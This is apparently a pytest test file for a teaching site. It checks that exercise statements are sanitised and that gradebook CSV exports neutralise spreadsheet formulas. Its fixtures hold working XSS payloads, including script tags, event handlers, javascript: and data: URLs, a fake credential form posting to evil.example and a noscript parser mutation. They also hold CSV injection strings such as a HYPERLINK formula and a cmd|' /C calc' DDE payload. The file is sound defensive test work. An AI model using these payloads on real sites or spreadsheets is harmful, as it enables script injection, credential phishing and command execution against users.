"""What the site serves from text it does not control: exercise statements (Markdown rendered, then sanitised
by nh3) and the gradebook CSV (text cells that no spreadsheet, in any locale, runs as a formula)."""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from html.parser import HTMLParser
from typing import Any

import markdown
import pytest

from catalog.models import Exercise
from courses.models import Role
from grading import dispatch, intake, runs
from grading.models import GradingRun
from tests.support.factories import (
    AssignmentFactory,
    CohortFactory,
    CourseFactory,
    EnrolmentFactory,
    UserFactory,
)
from tests.support.outcomes import fake_outcome
from tests.support.paths import ROOT
from tests.support.solutions import WORD_FREQ
from web.spreadsheet import csv_text
from web.statements import sanitise

ARTICLE = re.compile(r"<article>(.*?)</article>", re.S)

HOSTILE = """# Word frequencies, revisited

<script>alert("s1")</script>

<img src="chart.png" onerror="alert('s2')">

Click [here](javascript:alert('s3')) or [there](JaVaScRiPt:alert('s3b')).

<iframe src="https://evil.example/s4"></iframe>

<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgnczUnKTwvc2NyaXB0Pg==">data link</a>

<div onclick="alert('s6')" style="position:fixed;inset:0">
<form action="https://evil.example/s7"><input name="password"><button>Sign in again</button></form>
<p style="background:url(javascript:alert('s8'))">styled</p>
</div>

<object data="https://evil.example/s9.swf"></object><embed src="https://evil.example/s10.swf">
<svg onload="alert('s11')"><circle r="1"/></svg>
<meta http-equiv="refresh" content="0;url=https://evil.example/s12">
<style>body { display: none }</style>
<base href="https://evil.example/">

A [safe link](https://example.org/guide), a [mail](mailto:staff@example.org) and ![a plot](plots/loss.png).

```python
if a < b and "x" in d:
    print(f"{a!r} <script>")
```
"""

FORBIDDEN = ("<script", "onerror", "onclick", "onload", "javascript:", "data:", "<iframe", "<form", "<input",
             "<button", "<object", "<embed", "<svg", "<meta", "<style", "<base", "style=", "evil.example", "alert(")


@pytest.fixture(autouse=True)
def no_broker(monkeypatch: pytest.MonkeyPatch) -> None:
    """Submissions are made through intake; their runs are finished here, never sent to a broker."""
    monkeypatch.setattr(dispatch, "send", lambda run, **_: None)


# ------------------------------------------------------------------------------------ statements


def _article(html: str) -> str:
    match = ARTICLE.search(html)
    assert match, "the page has no statement"
    return match.group(1)


def test_a_hostile_statement_is_served_without_its_scripts(client, grader_tree) -> None:  # type: ignore[no-untyped-def]
    (grader_tree.exercises / WORD_FREQ / "README.md").write_text(HOSTILE, encoding="utf-8")
    grader_tree.sync()
    exercise = grader_tree.exercise()
    student = UserFactory(username="ada")
    cohort = CohortFactory(course=CourseFactory(slug="ai-101"))
    EnrolmentFactory(user=student, cohort=cohort)
    assignment = AssignmentFactory(cohort=cohort, exercise=exercise)
    client.force_login(student)
    for url in (f"/exercises/{WORD_FREQ}/", f"/assignments/{assignment.pk}/"):
        response = client.get(url)
        assert response.status_code == 200
        page = response.content.decode()
        statement = _article(page)
        lowered = statement.lower()
        assert [bad for bad in FORBIDDEN if bad in lowered] == [], url
        assert "<script" not in page.lower() and "javascript:" not in page.lower()
        # What a statement needs is still there.
        assert "<h1>Word frequencies, revisited</h1>" in statement
        assert '<a href="https://example.org/guide" rel="noopener noreferrer">safe link</a>' in statement
        assert '<a href="mailto:staff@example.org" rel="noopener noreferrer">mail</a>' in statement
        assert '<img alt="a plot" src="plots/loss.png">' in statement
        assert '<img src="chart.png">' in statement  # the image stays, its handler goes
        assert "data link" in statement and "styled" in statement  # text of stripped tags is kept
        assert '<pre><code class="language-python">if a &lt; b and "x" in d:' in statement
        assert "&lt;script&gt;" in statement  # inside code it is text, shown as written


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ('<a href="java&#x09;script:alert(1)">x</a>', '<a rel="noopener noreferrer">x</a>'),
        ('<a href=" javascript:alert(1)">x</a>', '<a rel="noopener noreferrer">x</a>'),
        ('<a href="vbscript:msgbox(1)">x</a>', '<a rel="noopener noreferrer">x</a>'),
        ('<a href="#tips">x</a>', '<a href="#tips" rel="noopener noreferrer">x</a>'),
        ('<img src="data:image/svg+xml;base64,PHN2Zz4=">', "<img>"),
        ('<img src="mailto:someone@example.org">', "<img>"),
        ('<img src="https://example.org/a.png" onload="x()">', '<img src="https://example.org/a.png">'),
        ('<code class="language-python evil">x</code>', "<code>x</code>"),
        ('<table><tr><td align="center" style="color:red">1</td><td align="javascript">2</td></tr></table>',
         '<table><tbody><tr><td align="center">1</td><td>2</td></tr></tbody></table>'),
        ("<p>a<!-- <script>alert(1)</script> -->b</p>", "<p>ab</p>"),
    ],
)
def test_the_sanitiser_refuses_disguised_scripts(html: str, expected: str) -> None:
    assert sanitise(html) == expected


def test_the_sanitiser_survives_a_parser_confusion() -> None:
    """The noscript mutation (a title attribute that a second parse reads as an img tag): nh3 parses as a
    browser does, so the handler never comes back."""
    cleaned = sanitise('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>')
    assert "onerror" not in cleaned and "alert" not in sanitise(cleaned)


class _Tree(HTMLParser):
    """A document as a browser would see it: tags with their attributes, and text with references resolved."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.events: list[tuple[Any, ...]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.events.append(("start", tag, tuple(sorted(attrs))))

    def handle_endtag(self, tag: str) -> None:
        self.events.append(("end", tag))

    def handle_data(self, data: str) -> None:
        if self.events and self.events[-1][0] == "text":
            self.events[-1] = ("text", self.events[-1][1] + data)
        else:
            self.events.append(("text", data))


def _tree(html: str) -> list[tuple[Any, ...]]:
    parser = _Tree()
    parser.feed(html)
    parser.close()
    return parser.events


def test_every_built_in_statement_looks_as_before(client, synced_exercise) -> None:  # type: ignore[no-untyped-def]
    """Each exercise page shows its statement exactly as the plain Markdown rendering did before sanitising:
    the same tags, attributes and text (nh3 writes `"` in text where Markdown wrote `&quot;`, nothing else)."""
    exercises = list(Exercise.objects.filter(listed=True).order_by("slug"))
    assert len(exercises) >= 50
    client.force_login(UserFactory(username="reader"))
    totals = {"pre": 0, "table": 0, "h2": 0}
    for exercise in exercises:
        source = next(ROOT.glob(f"exercises/{exercise.slug}/README.md")).read_text(encoding="utf-8")
        before = markdown.markdown(source, extensions=["fenced_code", "tables"])
        response = client.get(f"/exercises/{exercise.slug}/")
        assert response.status_code == 200, exercise.slug
        served = _article(response.content.decode())
        assert _tree(served) == _tree(before), exercise.slug
        for tag in totals:
            totals[tag] += served.count(f"<{tag}>") + served.count(f"<{tag} ")
        assert served.count("<pre>") == before.count("<pre>") and served.count("<h2>") == before.count("<h2>")
    # The statements hold code blocks, tables and headings, and they all came through.
    assert totals["pre"] > 100 and totals["table"] > 10 and totals["h2"] > 100, totals


# ------------------------------------------------------------------------------------ CSV


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Curious Otter", "Curious Otter"),
        ("Smith-Jones", "Smith-Jones"),
        ("O'Neil - fan, 2nd", "O'Neil - fan, 2nd"),
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-1", "'-1"),  # text that looks like a number is still text
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t'=1"),
        ("\r=1", "'\r'=1"),
        ("Otter;=HYPERLINK(\"http://evil\")", "Otter;'=HYPERLINK(\"http://evil\")"),
        ("Otter; -2+3", "Otter; '-2+3"),
        ("Ek,+cmd|' /C calc'!A0", "Ek,'+cmd|' /C calc'!A0"),
        ("a\n@x", "a\n'@x"),
        ('a,"=1', 'a,"\'=1'),  # a quote that may open a cell in a reader splitting on the comma
        ('"+1"', '"\'+1"'),
        ("\uff1d1+1", "'\uff1d1+1"),  # full-width =
        ("x\uff1b\uff0bcmd", "x\uff1b'\uff0bcmd"),  # full-width ; then full-width +
        ("x;\u3000=1", "x;\u3000'=1"),  # an ideographic space between
        ("\ufe62cmd", "'\ufe62cmd"),  # small form +
    ],
)
def test_csv_text_neutralises_formulas_after_any_separator(text: str, expected: str) -> None:
    assert csv_text(text) == expected


HOSTILE_NAMES = {
    # username: (pseudonym, first name, last name, show name)
    "semi": ('Otter;=HYPERLINK("http://evil","x")', "", "", False),
    "minus": ("-1", "", "", False),
    "wide": ("\uff1d1+1", "", "", False),
    "at": ("@SUM(1;2)", "", "", False),
    "tabby": ("\t=cmd", "", "", False),
    "named": ("", "Bo", ",+cmd|' /C calc'!A0", True),
    "+evil": ("Quiet Heron", "", "", False),
}
FORMULA_CHARS = set("=+-@")


def _graded(student, assignment, failing=()) -> None:  # type: ignore[no-untyped-def]
    source = (ROOT / "graders" / WORD_FREQ / "reference" / "solution.py").read_bytes()
    submission = intake.submission_create(
        student=student, exercise=assignment.exercise, uploads={"solution.py": source}, assignment=assignment
    )
    run = GradingRun.objects.get(submission=submission, status="queued")
    assert runs.claim(run_id=run.pk, token="test-worker")
    assert runs.complete(run_id=run.pk, token="test-worker", outcome=fake_outcome(run, failing=failing))


def test_the_gradebook_csv_opens_without_formulas_in_any_locale(client, grader_tree) -> None:  # type: ignore[no-untyped-def]
    grader_tree.sync()
    cohort = CohortFactory(course=CourseFactory(slug="ai-101"), slug="autumn")
    teacher = UserFactory(username="ines")
    EnrolmentFactory(user=teacher, cohort=cohort, role=Role.INSTRUCTOR)
    assignment = AssignmentFactory(cohort=cohort, exercise=grader_tree.exercise())
    students = {}
    for username, (pseudonym, first, last, show_name) in HOSTILE_NAMES.items():
        students[username] = UserFactory(username=username, first_name=first, last_name=last)
        EnrolmentFactory(user=students[username], cohort=cohort, pseudonym=pseudonym, show_name=show_name)
    _graded(students["minus"], assignment)
    _graded(students["semi"], assignment, failing=["test_ignores_case"])

    client.force_login(teacher)
    response = client.get(f"/cohorts/{cohort.pk}/gradebook.csv")
    assert response.status_code == 200
    text = response.content.decode()
    rows = {row[0]: row[1:] for row in csv.reader(io.StringIO(text))}
    assert rows["'+evil"] == ["Quiet Heron", "", "0"]
    assert rows["minus"][0] == "'-1"
    assert rows["semi"][0] == "Otter;'=HYPERLINK(\"http://evil\",\"x\")"
    assert rows["wide"][0] == "'\uff1d1+1"
    assert rows["at"][0] == "'@SUM(1;2)"
    assert rows["tabby"][0] == "'\t'=cmd"
    assert rows["named"][0] == "Bo ,'+cmd|' /C calc'!A0"
    # Scores are numbers, written as numbers: never prefixed.
    assert rows["minus"][1:] == ["10", "10"]
    assert re.fullmatch(r"\d+", rows["semi"][1]) and rows["semi"][1] == rows["semi"][2] != "10"
    # Split as any reader might (comma, semicolon, tab, line breaks, full-width forms; quotes honoured or
    # not): no piece starts with a formula character, whatever spaces and quotes come before it.
    for piece in re.split(r"[,;\t\r\n\uff0c\uff1b]", text):
        stripped = piece.lstrip(' "\u3000')
        if stripped:
            assert unicodedata.normalize("NFKC", stripped[0]) not in FORMULA_CHARS, repr(piece)
